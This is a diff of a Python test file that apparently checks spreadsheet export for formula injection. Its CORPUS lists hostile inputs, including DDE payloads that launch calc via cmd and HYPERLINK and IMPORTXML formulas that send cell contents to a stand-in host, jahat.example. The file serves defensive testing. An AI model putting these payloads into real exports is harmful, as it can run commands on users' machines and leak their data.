@@ -20,9 +20,9 @@ from tests.mail.complaints import BOOK, CATALOG, ESCALATED
 CORPUS = (
     "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", " =1", "\u00a0=1", "＝1+1", "＋1", "－1", "＠x",
     "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+62 812 3456 7890",
-    "=HYPERLINK(\"https://jahat.example/?x=\"&A1;\"klik\")", "=IMPORTXML(CONCAT(\"https://jahat.example\",A1),\"//a\")",
-    "baik,=1+1", "baik;=1+1", "baik\t=1+1", "baik\n=1+1", "baik\r\n=1+1", "baik\n\n  @x", "baik, \"=1+1", "baik;\"\"=1+1",
-    "\";=1+1", "\",=1+1", "\"\n=1+1;\"", "'=1", "a,=1,=2;=3",
+    '=HYPERLINK("https://jahat.example/?x="&A1;"klik")', '=IMPORTXML(CONCAT("https://jahat.example",A1),"//a")',
+    "baik,=1+1", "baik;=1+1", "baik\t=1+1", "baik\n=1+1", "baik\r\n=1+1", "baik\n\n  @x", 'baik, "=1+1', 'baik;""=1+1',
+    '";=1+1', '",=1+1', '"\n=1+1;"', "'=1", "a,=1,=2;=3", '"=1', ' " =1', 'a, " " =1',
 )  # fmt: skip
 HARMLESS = (
     "",
